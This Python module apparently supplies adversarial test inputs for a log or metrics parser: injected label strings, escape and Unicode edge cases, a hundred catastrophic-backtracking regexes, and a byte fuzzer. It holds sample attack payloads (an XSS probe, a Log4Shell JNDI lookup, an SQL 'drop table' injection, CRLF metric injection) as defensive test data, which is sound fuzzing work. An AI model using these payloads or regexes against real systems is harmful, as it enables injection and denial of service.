"""Texts that somebody might send on purpose."""

import random

LABELS: tuple[bytes, ...] = (
    rb"\x22,evil=\x22",
    b"}",
    b"{",
    b"x}1",
    rb"a\x22}\x201\x0aevil_total\x201",
    b"\\",
    b"\\\\",
    b"\\n",
    b"\\\\n",
    b'\\"',
    b"\x00",
    b"\r",
    b"\x1b[31m",
    b"\x7f",
    b"\x80\xff",
    b"\xc3",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xe2\x80\xae" + b"evil",
    b"\xe2\x81\xa6" + b"evil",
    b"\xe2\x80\xa8" + b"evil",
    b"\xc2\x85",
    b"\xc2\x9b31m",
    b"\xef\xbb\xbf",
    b"#EOF",
    b"evil_total{}1",
    b"__name__=evil",
    "é".encode() * 200,
    b"x" + "😀".encode() * 100,
    b"y" * 60_000,
    b"<script>alert(1)</script>",
    b"${jndi:ldap://example.com/a}",
    b"%0a%0devil_total%201",
    b"'; drop table series; --",
    b"__other__",
)
"""Paths for labels, as a server logs them; bare quotes and line feeds cannot stand there."""


def _regexes() -> tuple[str, ...]:
    atoms = ["a", "[a-z]", ".", r"\w", "(a|aa)", "(a|b|ab)", r"\pL", "(x+x+)", r"[^/]", "(a?)"]
    shapes = [
        "({0}+)+$",
        "({0}*)*b",
        "({0}{{1,100}}){{1,100}}",
        "{0}{{1000}}{0}{{1000}}",
        "(({0}{{10}}){{10}}){{10}}",
        "({0}|{0}?)+$",
        "^({0}+)*\\1$",
        "(?:{0}?){{500}}{0}{{500}}",
        "({0}*){{1,1000}}c",
        "(?=({0}+))\\1b",
    ]
    return tuple(shape.format(atom) for shape in shapes for atom in atoms)


REGEXES = _regexes()
"""A hundred regexes: exponential for backtracking, huge when compiled, or not regular at all."""

_BIDI = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_CONTROLS = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))} | set(_BIDI)


def has_controls(text: str) -> bool:
    """Whether a C0 or C1 control, DEL, or a mark that changes the direction of writing is there."""
    return not _CONTROLS.isdisjoint(text)


def fuzz_line(choose: random.Random) -> bytes:
    """A line of any bytes that is none of the ledger's."""
    match choose.randrange(4):
        case 0:
            line = choose.randbytes(choose.randrange(1, 200))
        case 1:
            line = bytes(range(256))
        case 2:
            line = b"\x00" * choose.randrange(1, 300)
        case _:
            line = b'192.0.2.1 [10/Oct/2026:13:55:36 +0000] "GET \xff\x00 HTTP/1.1" 200 1\r'
    return b"~" + line.replace(b"\n", b"") + b"\n"
